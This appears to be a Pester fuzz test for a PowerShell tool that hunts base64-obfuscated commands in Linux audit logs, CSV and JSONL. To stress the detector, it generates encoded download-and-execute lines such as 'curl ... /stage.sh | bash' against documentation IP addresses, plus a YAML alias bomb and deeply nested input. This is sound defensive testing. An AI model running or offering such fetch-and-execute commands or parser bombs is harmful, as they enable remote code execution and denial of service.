# Hostile input at the cmdlet level: a few hundred mutated command lines, log lines and rule files through the
# whole local hunt. Deterministic: the seed is $env:B64HUNT_FUZZ_SEED (default below) and every failure says it.
BeforeAll {
    Import-Module $env:B64HUNT_MODULE -Force

    $script:Seed = if ($env:B64HUNT_FUZZ_SEED) { [int]$env:B64HUNT_FUZZ_SEED } else { 20261127 }
    $script:Rng = [System.Random]::new($Seed)
    $script:Because = "seed $Seed (reproduce: `$env:B64HUNT_FUZZ_SEED=$Seed)"
    $script:Utf8 = [System.Text.UTF8Encoding]::new($false)
    $script:GetCommand = 'B64Hunt.Commands.GetB64CommandCommand'

    # Every error id the hunt's stages may write for bad input (the documented contract).
    $script:SourceIds = 'MalformedAuomsRecord', 'MalformedAuditdRecord', 'MissingCommandLineColumn', 'MalformedRow',
        'MalformedJson', 'LineTooLong', 'FileReadError'
    $script:OtherIds = 'InvalidEventCount', 'UnsupportedInputObject', 'InvalidTimeGenerated'

    $module = Split-Path -Parent (Get-Module B64Hunt).Path
    $script:SampleLines = [System.IO.File]::ReadAllLines((Join-Path $module 'data/sample/auoms-syslog.log'))
    $script:RuleSeeds = @(
        [System.IO.File]::ReadAllText((Join-Path $module 'data/rules/categories.yaml'))
        [System.IO.File]::ReadAllText((Join-Path $PSScriptRoot '../B64Hunt.Engine.Tests/Fixtures/Classification/user-rules.yaml'))
    )

    function ConvertTo-B64([string] $text) { [Convert]::ToBase64String($Utf8.GetBytes($text)) }

    # A good command line: a unique hidden command the hunt must find.
    function New-GoodCommand([int] $n) {
        $hidden = "curl -s http://203.0.113.$($n % 250 + 1)/stage$n.sh | bash"
        [pscustomobject]@{ Hidden = $hidden; CommandLine = "echo $(ConvertTo-B64 $hidden) | base64 -d | bash" }
    }

    function New-AuomsLine([string] $cmdline, [int] $serial) {
        "Oct  3 10:15:0$($serial % 10) web-$($serial % 7) auoms[811]: type=AUOMS_EXECVE audit(1759486500.$('{0:d3}' -f ($serial % 1000)):$serial): SchemaVersion=`"1`" arch=x86_64 syscall=execve success=yes exit=0 ppid=100 pid=$(200 + $serial) audit_user=alice auid=1000 user=alice uid=1000 comm=`"bash`" exe=`"/usr/bin/bash`" cwd=`"/home/alice`" argc=3 cmdline=`"$cmdline`" redactors= containerid="
    }

    $script:Tokens = @('"', "'", '\', "`0", '$(', ')', '`', '{', '[', ',', '=', '|', '<script>', '%00', 'base64 -d ', 'type=AUOMS_EXECVE ', 'cmdline="', '&a ', '*a')

    # Byte-level mutation: flips, random bytes, deletions, duplication, tokens, invalid UTF-8, runs, nesting.
    function Get-Mutated([byte[]] $bytes, [int] $rounds = 4, [switch] $KeepLines) {
        $data = [System.Collections.Generic.List[byte]]::new($bytes)
        $count = $Rng.Next(1, $rounds + 1)
        for ($r = 0; $r -lt $count; $r++) {
            $at = $Rng.Next(0, $data.Count + 1)
            switch ($Rng.Next(9)) {
                0 { if ($data.Count) { $i = $Rng.Next($data.Count); $data[$i] = $data[$i] -bxor (1 -shl $Rng.Next(8)) } }
                1 { if ($data.Count) { $data[$Rng.Next($data.Count)] = [byte]$Rng.Next(256) } }
                2 { if ($data.Count) { $s = $Rng.Next($data.Count); $data.RemoveRange($s, [Math]::Min($data.Count - $s, $Rng.Next(1, 64))) } }
                3 { if ($data.Count) { $s = $Rng.Next($data.Count); $data.InsertRange($s, $data.GetRange($s, [Math]::Min($data.Count - $s, $Rng.Next(1, 128)))) } }
                4 { $data.InsertRange($at, $Utf8.GetBytes($Tokens[$Rng.Next($Tokens.Count)])) }
                5 { $data.InsertRange($at, [byte[]]((0xFF, 0xC3, 0x28, 0xED, 0xA0, 0x80)[0..$Rng.Next(6)])) }
                6 { $data.InsertRange($at, $Utf8.GetBytes('A' * $Rng.Next(1, 4096))) }
                7 { $d = $Rng.Next(1, 300); $data.InsertRange($at, $Utf8.GetBytes(('$(' * $d) + 'echo aGVsbG8= | base64 -d' + (')' * $d))) }
                default { if ($data.Count) { $cut = [Math]::Min($at, $data.Count - 1); $data.RemoveRange($cut, $data.Count - $cut) } }
            }
        }
        $out = $data.ToArray()
        if ($KeepLines) { $out = [byte[]]@($out.Where({ $_ -ne 10 -and $_ -ne 13 })) }
        , $out
    }

    # "Billion laughs": each level aliases the previous one ten times.
    function New-AliasBomb([int] $levels) {
        $sb = [System.Text.StringBuilder]::new("a0: &a0 [x,x,x,x,x,x,x,x,x,x]`n")
        for ($i = 1; $i -lt $levels; $i++) { [void]$sb.Append("a${i}: &a$i [" + ((, "*a$($i - 1)") * 10 -join ',') + "]`n") }
        $sb.ToString()
    }

    function Write-Lines([string] $path, [object[]] $lines, [switch] $Gzip) {
        $buffer = [System.IO.MemoryStream]::new()
        foreach ($line in $lines) {
            # (not $bytes = if ...: an empty array would unroll to $null)
            if ($line -is [byte[]]) { $bytes = $line } else { $bytes = $Utf8.GetBytes([string]$line) }
            $buffer.Write($bytes, 0, $bytes.Length)
            $buffer.WriteByte(10)
        }
        $content = $buffer.ToArray()
        if ($Gzip) {
            $zipped = [System.IO.MemoryStream]::new()
            $gz = [System.IO.Compression.GZipStream]::new($zipped, [System.IO.Compression.CompressionLevel]::Fastest, $true)
            $gz.Write($content, 0, $content.Length)
            $gz.Dispose()
            $content = $zipped.ToArray()
        }
        [System.IO.File]::WriteAllBytes($path, $content)
    }

    # Checks an error record: documented id, the item as target. Returns the target.
    function Assert-ErrorRecord($record, [string[]] $ids) {
        $id = ($record.FullyQualifiedErrorId -split ',')[0]
        $id | Should -BeIn $ids -Because "$Because; error: $record"
        $record.TargetObject | Should -Not -BeNullOrEmpty -Because "$Because; error $id has no target: $record"
        $record.TargetObject
    }
}

Describe 'Fuzz: hostile input through the whole hunt' {
    It 'mutated command lines: the pipeline completes, every good command is scored, every error is documented' {
        $good = 0..149 | ForEach-Object { New-GoodCommand $_ }
        $decoded = @($SampleLines | Where-Object { $_ -match 'AUOMS_EXECVE' -and $_ -match ' cmdline="(.*)" redactors=' } | Select-Object -First 300 |
            ForEach-Object { if ($_ -match ' cmdline="(.*)" redactors=') { $Matches[1] } })
        $items = [System.Collections.Generic.List[string]]::new()
        foreach ($g in $good) {
            $items.Add($g.CommandLine)
            $seed = $decoded[$Rng.Next($decoded.Count)]
            $items.Add($Utf8.GetString((Get-Mutated $Utf8.GetBytes($seed) 6)))
        }
        $items.Add(''); $items.Add("`0" * 1000); $items.Add('$(' * 5000)

        $scores = $items | Get-B64Command -ErrorVariable e1 -ErrorAction SilentlyContinue -WarningAction SilentlyContinue |
            Add-B64Category -ErrorVariable e2 -ErrorAction SilentlyContinue |
            Add-GtfoBinsTag -ErrorVariable e3 -ErrorAction SilentlyContinue |
            Find-B64Ioc -ErrorVariable e4 -ErrorAction SilentlyContinue |
            Measure-B64Score -ErrorVariable e5 -ErrorAction SilentlyContinue

        $found = [System.Collections.Generic.HashSet[string]]::new([string[]]@($scores.DecodedCommand))
        foreach ($g in $good) { $found.Contains($g.Hidden) | Should -BeTrue -Because "$Because; '$($g.Hidden)' was dropped" }
        foreach ($record in @($e1) + @($e2) + @($e3) + @($e4) + @($e5)) { Assert-ErrorRecord $record ($SourceIds + $OtherIds) | Out-Null }
    }

    It 'mutated log files: good records come out, each bad line is at most one error naming its file:line' {
        $files = @{}   # path -> set of bad line numbers
        $expected = [System.Collections.Generic.List[string]]::new()
        $n = 1000
        $payloadLines = @($SampleLines | Where-Object { $_ -match 'AUOMS_EXECVE' -and $_ -match ' cmdline="' })
        for ($f = 0; $f -lt 40; $f++) {
            $kind = ('auoms', 'auoms', 'auoms-gz', 'jsonl', 'csv', 'garbage')[$f % 6]
            $path = Join-Path $TestDrive "fuzz-$f.$kind"
            $lines = [System.Collections.Generic.List[object]]::new()
            $bad = [System.Collections.Generic.HashSet[int]]::new()
            if ($kind -eq 'csv') { $lines.Add('TimeGenerated,Computer,ProcessCommandLine') }
            if ($kind -eq 'garbage') {
                $blob = [byte[]]::new($Rng.Next(1, 20000)); $Rng.NextBytes($blob)
                [System.IO.File]::WriteAllBytes($path, $blob)
                $files[$path] = $null   # any line may be bad
                continue
            }
            for ($i = 0; $i -lt 7; $i++) {
                $g = New-GoodCommand (++$n)
                $expected.Add($g.Hidden)
                switch -Wildcard ($kind) {
                    'auoms*' { $lines.Add((New-AuomsLine $g.CommandLine $n)) }
                    'jsonl' { $lines.Add((@{ TimeGenerated = '2026-10-03T10:15:00Z'; Computer = "web-$n"; CommandLine = $g.CommandLine } | ConvertTo-Json -Compress)) }
                    'csv' { $lines.Add("2026-10-03T10:15:00Z,web-$n,`"$($g.CommandLine)`"") }
                }
                $template = switch -Wildcard ($kind) { 'auoms*' { $payloadLines[$Rng.Next($payloadLines.Count)] } default { [string]$lines[$lines.Count - 1] } }
                $mutated = Get-Mutated $Utf8.GetBytes($template) 6 -KeepLines
                # In CSV a lone quote legitimately runs to the end of the file: bad rows keep no quote.
                if ($kind -eq 'csv') { $mutated = [byte[]]@($mutated.Where({ $_ -ne 34 })) }
                $lines.Add($mutated)
                [void]$bad.Add($lines.Count)
            }
            Write-Lines $path $lines -Gzip:($kind -eq 'auoms-gz')
            $files[$path] = $bad
        }

        $paths = @($files.Keys | Sort-Object)
        $scores = Get-B64Command -LiteralPath $paths -ErrorVariable e1 -ErrorAction SilentlyContinue -WarningAction SilentlyContinue |
            Add-B64Category | Add-GtfoBinsTag | Find-B64Ioc | Measure-B64Score -ErrorVariable e5 -ErrorAction SilentlyContinue

        $found = [System.Collections.Generic.HashSet[string]]::new([string[]]@($scores.DecodedCommand))
        foreach ($hidden in $expected) { $found.Contains($hidden) | Should -BeTrue -Because "$Because; '$hidden' was dropped" }
        @($e1).Count | Should -BeGreaterThan 0 -Because "$Because; the mutated lines and garbage files must be reported"
        $perLine = @{}
        foreach ($record in @($e1) + @($e5)) {
            $target = [string](Assert-ErrorRecord $record ($SourceIds + $OtherIds))
            $file = $paths | Where-Object { $target -eq $_ -or $target.StartsWith("${_}:") } | Select-Object -First 1
            $file | Should -Not -BeNullOrEmpty -Because "$Because; the target '$target' names no input file"
            if ($target -ne $file -and $null -ne $files[$file]) {
                $line = [int]$target.Substring($file.Length + 1)
                $files[$file].Contains($line) | Should -BeTrue -Because "$Because; '$record' names a good line"
                $perLine[$target] = 1 + [int]$perLine[$target]
                $perLine[$target] | Should -Be 1 -Because "$Because; more than one error for $target"
            }
        }
    }

    It 'mutated rule files: Add-B64Category either loads them or stops with InvalidCategoryRuleFile naming file, line and column' {
        for ($f = 0; $f -lt 40; $f++) {
            $path = Join-Path $TestDrive "rules-$f.yaml"
            $seed = $RuleSeeds[$f % 2]
            $bytes = switch ($f % 8) {
                6 { $Utf8.GetBytes('rules: ' + ('[' * 20000)) }
                7 { $Utf8.GetBytes((New-AliasBomb 9) + "? *a8`n: x`n") }
                default { Get-Mutated $Utf8.GetBytes($seed) 6 }
            }
            [System.IO.File]::WriteAllBytes($path, $bytes)
            $err = $null
            try { $null = 'curl http://203.0.113.9/x | sh' | Add-B64Category -RulePath $path -ErrorAction Stop } catch { $err = $_ }
            if ($f % 8 -ge 6) { $err | Should -Not -BeNullOrEmpty -Because "$Because; rule file $f nests 20,000 deep or is an alias bomb" }
            if ($err) {
                $err.FullyQualifiedErrorId | Should -BeLike 'InvalidCategoryRuleFile,*' -Because "$Because; rule file $f gave $($err.FullyQualifiedErrorId): $err"
                $err.TargetObject | Should -Be $path -Because $Because
                $err.ToString() | Should -Match ([regex]::Escape($path) + '\([1-9]\d*,[1-9]\d*\): ') -Because "$Because; no file(line,column) in: $err"
            }
        }
    }
}
